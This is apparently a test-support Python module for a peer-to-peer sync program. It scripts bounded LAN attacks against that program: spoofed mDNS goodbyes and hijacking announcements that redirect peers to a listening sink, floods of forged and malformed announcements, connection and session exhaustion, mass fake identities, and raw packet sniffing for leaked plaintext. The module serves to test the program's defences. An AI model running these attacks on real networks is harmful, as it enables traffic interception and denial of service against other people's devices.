"""Hostile acts on the LAN: run as `python -m tests.lan.attacker DEED ...` on a host.

Each deed prints one JSON object a line: what it saw. Every loop is bounded, and a deed that goes on
ends with its standard input.
"""

import asyncio
import json
import socket
import sys
from collections.abc import AsyncIterator, Callable, Coroutine
from contextlib import asynccontextmanager, suppress
from typing import Any

from msgspec.structs import asdict
from zeroconf import IPVersion, ServiceStateChange, Zeroconf
from zeroconf._dns import DNSAddress, DNSPointer, DNSRecord, DNSService, DNSText
from zeroconf._protocol.outgoing import DNSOutgoing
from zeroconf.asyncio import AsyncServiceBrowser, AsyncZeroconf
from zeroconf.const import (
    _CLASS_IN,
    _CLASS_UNIQUE,
    _FLAGS_AA,
    _FLAGS_QR_RESPONSE,
    _TYPE_A,
    _TYPE_PTR,
    _TYPE_SRV,
    _TYPE_TXT,
)

from sync.entries.identity import Identity
from sync.errors import RemoteError
from sync.net.clock import draw_key
from sync.net.discovery.mdns import SERVICE
from sync.net.invite import open_channel
from sync.net.links.channel_proofs import Membership
from sync.net.links.channel_secrets import plain
from sync.net.links.frames import Open, Ping, Proof, decode, encode
from sync.net.links.link import PROTOCOL
from sync.net.links.stream import SecureStream
from sync.waku.message import RECONCILIATION, TRANSFER
from tests.support.sync.entries import identity

GROUP = ("224.0.0.251", 5353)
UNIQUE = _CLASS_IN | _CLASS_UNIQUE
TTL_S = 120
IDLE_MAX_S = 30.0
PING_S = 1.0
PACKETS_PER_SECOND = 250
DIALS_MAX = 4
SINK_PORT = 46021
"""The port where the programs listen too: who is sent here finds somebody."""


def say(**what: object) -> None:
    """Print what happened, for the test."""
    print(json.dumps(what, default=str), flush=True)


def packet(*records: DNSRecord) -> bytes:
    """One multicast answer with these records."""
    out = DNSOutgoing(_FLAGS_QR_RESPONSE | _FLAGS_AA)
    for record in records:
        out.add_answer_at_time(record, 0)
    [data] = out.packets()
    return data


def pointer(alias: str, ttl: int = TTL_S) -> DNSPointer:
    return DNSPointer(SERVICE, _TYPE_PTR, _CLASS_IN, ttl, alias, 0.0)


def location(instance: str, address: str, port: int) -> list[DNSRecord]:
    """All that a program says of itself, saying it is at `address`."""
    name, server = f"{instance}.{SERVICE}", f"{instance}.local."
    return [
        pointer(name),
        DNSService(name, _TYPE_SRV, UNIQUE, TTL_S, 0, 0, port, server, 0.0),
        DNSText(name, _TYPE_TXT, UNIQUE, TTL_S, b"\x03v=1", 0.0),
        DNSAddress(server, _TYPE_A, UNIQUE, TTL_S, socket.inet_aton(address), created=0.0),
    ]


def multicast(address: str) -> socket.socket:
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    # Answers from another port than 5353 are ignored.
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    sender.bind((address, GROUP[1]))
    return sender


async def end_of_input() -> None:
    await asyncio.wait_for(asyncio.to_thread(sys.stdin.read), IDLE_MAX_S)


@asynccontextmanager
async def browsing(
    address: str, came: Callable[[str], None], went: Callable[[str], None]
) -> AsyncIterator[None]:
    """Tell who is announced, and whom the network takes for gone, by the names of the instances."""

    def changed(
        zeroconf: Zeroconf, service_type: str, name: str, state_change: ServiceStateChange
    ) -> None:
        del zeroconf, service_type
        if state_change is ServiceStateChange.Added:
            came(name.removesuffix(f".{SERVICE}"))
        elif state_change is ServiceStateChange.Removed:
            went(name.removesuffix(f".{SERVICE}"))

    listening = AsyncZeroconf(interfaces=[address], ip_version=IPVersion.V4Only)
    browser = AsyncServiceBrowser(listening.zeroconf, SERVICE, handlers=[changed])
    try:
        yield
    finally:
        await browser.async_cancel()
        await listening.async_close()


async def goodbye(address: str, people: str) -> None:
    """Once so many people are announced take back what they announced; end when they are gone."""
    present: set[str] = set()
    gone: set[str] = set()
    done = asyncio.Event()

    def came(name: str) -> None:
        present.add(name)
        if len(present) == int(people):
            for one in present:
                sender.sendto(packet(pointer(f"{one}.{SERVICE}", ttl=0)), GROUP)

    def went(name: str) -> None:
        say(gone=name)
        gone.add(name)
        if gone == present:
            done.set()

    with multicast(address) as sender:
        async with asyncio.timeout(IDLE_MAX_S), browsing(address, came, went):
            await done.wait()


async def hijack(address: str) -> None:
    """Say that everybody is here, and show who comes here and what they say."""
    present: list[str] = []

    async def meet(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            stream = await SecureStream.accept(reader, writer, identity("mallory"), draw_key)
            say(came=stream.peer)
            while batch := await stream.receive_batch():
                for frame in map(decode, batch):
                    say(kind=type(frame).__name__, frame=asdict(frame))
        except RemoteError as error:
            say(left=str(error))
        finally:
            writer.close()

    def came(name: str) -> None:
        """Announce all again: a newcomer listens only now, and must hear where the others are."""
        present.append(name)
        for one in present:
            sender.sendto(packet(*location(one, address, SINK_PORT)), GROUP)

    with multicast(address) as sender:
        async with (
            await asyncio.start_server(meet, address, SINK_PORT),
            browsing(address, came, present.remove),
        ):
            await end_of_input()


async def flood(address: str, names: str) -> None:
    """Announce so many people who are not there, in every form."""
    many = int(names)
    with multicast(address) as sender:
        async with asyncio.timeout(IDLE_MAX_S):
            async for number in paced(many):
                sender.sendto(forged(number), GROUP)
                if number == many // 2:
                    say(halfway=True)
    say(sent=many)


def forged(number: int) -> bytes:
    """The announcement of somebody who is not there, each in another form than the one before."""
    instance = f"{number:016x}"
    packets = (
        packet(pointer(f"{instance}.{SERVICE}")),
        packet(*location(instance, f"10.77.0.{100 + number % 100}", 1 + number)),
        packet(*location(instance, "127.0.0.1", 1 + number)),
        packet(pointer(f"nobody{number}.")),
        packet(pointer(f"{number}._other._udp.local.")),
        packet(pointer(f"{'ü' * 31}\x07.{SERVICE}")),
    )
    return packets[number % len(packets)]


async def paced(times: int) -> AsyncIterator[int]:
    """0, 1, ..., at the beats of a timer: `PACKETS_PER_SECOND` of them a second at the most."""
    loop = asyncio.get_running_loop()
    beat = asyncio.Event()
    for number in range(times):
        loop.call_later(1 / PACKETS_PER_SECOND, beat.set)
        yield number
        await beat.wait()
        beat.clear()


async def crowd(target: str, port: str, connections: str) -> None:
    """Connect so many times, say next to nothing, and stay."""
    writers: list[asyncio.StreamWriter] = []
    for _ in range(int(connections)):
        _, writer = await asyncio.open_connection(target, int(port))
        writer.write(b"\x00")
        writers.append(writer)
    say(connected=len(writers))
    await end_of_input()
    for writer in writers:
        writer.transport.abort()


async def dialled(target: str, port: int, key: Identity) -> SecureStream:
    """Link as somebody, in a few tries: on a busy machine a handshake may take too long."""
    for _ in range(DIALS_MAX - 1):
        with suppress(RemoteError):
            return await SecureStream.dial(target, port, key, draw_key)
    return await SecureStream.dial(target, port, key, draw_key)


async def identities(target: str, port: str, count: str, channel: str = "") -> None:
    """Link as so many people, of an open channel or of none, and stay for as long as one may."""
    secrets = (
        {} if not channel else {(opened := open_channel(channel)).channel: plain(opened.secret)}
    )
    streams: list[SecureStream] = []

    async def stay(stream: SecureStream) -> None:
        with suppress(RemoteError):
            while await stream.receive_batch():
                pass
        streams.remove(stream)

    async with asyncio.TaskGroup() as staying:
        for number in range(int(count)):
            stream = await dialled(target, int(port), identity(str(number)))
            proofs = Membership(stream.role, stream.handshake_hash, secrets).opening()
            stream.send_batch([encode(Open(PROTOCOL, 0)), *map(encode, map(Proof, proofs))])
            streams.append(stream)
            staying.create_task(stay(stream))
        say(linked=len(streams))
        pinging = staying.create_task(ping_all(streams))
        await end_of_input()
        say(left=len(streams))
        pinging.cancel()
        for stream in streams:
            stream.abort()


async def sessions(target: str, port: str, count: str, channel: str) -> None:
    """Open so many connections for sessions of an open channel, say nothing on them, and stay.

    Each key has eight, of one kind, which is all that one may have; half of the kinds are
    transfers.
    """
    opened = open_channel(channel)
    streams: list[SecureStream] = []
    for number in range(int(count)):
        key = identity(str(number // 8))
        stream = await dialled(target, int(port), key)
        proofs = Membership(
            stream.role, stream.handshake_hash, {opened.channel: plain(opened.secret)}
        )
        kind = (TRANSFER, RECONCILIATION)[number // 8 % 2]
        stream.send_batch([encode(Open(kind, 0)), *map(encode, map(Proof, proofs.opening()))])
        streams.append(stream)
    say(opened=len(streams))
    await end_of_input()
    for stream in streams:
        stream.abort()


async def ping_all(streams: list[SecureStream]) -> None:
    """Be alive, on every link."""
    for nonce in range(round(IDLE_MAX_S)):
        for stream in streams:
            stream.send(encode(Ping(nonce, 0)))
        await asyncio.sleep(PING_S)


async def listen() -> None:
    """Write down every frame that passes here, and then what of it is text that was asked for."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003)) as tap:
        tap.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 32 * 1024 * 1024)
        tap.setblocking(False)
        captured = bytearray()
        asyncio.get_running_loop().add_reader(tap, lambda: captured.extend(tap.recv(65_536)))
        say(ready=True)
        wanted = await asyncio.wait_for(asyncio.to_thread(sys.stdin.readline), IDLE_MAX_S)
        asyncio.get_running_loop().remove_reader(tap)
    folded = bytes(captured).lower()
    found = [word for word in json.loads(wanted) if word.lower().encode() in folded]
    say(bytes=len(captured), found=found)


DEEDS: dict[str, Callable[..., Coroutine[Any, Any, None]]] = {
    "goodbye": goodbye,
    "hijack": hijack,
    "flood": flood,
    "crowd": crowd,
    "identities": identities,
    "sessions": sessions,
    "listen": listen,
}

if __name__ == "__main__":
    asyncio.run(DEEDS[sys.argv[1]](*sys.argv[2:]))
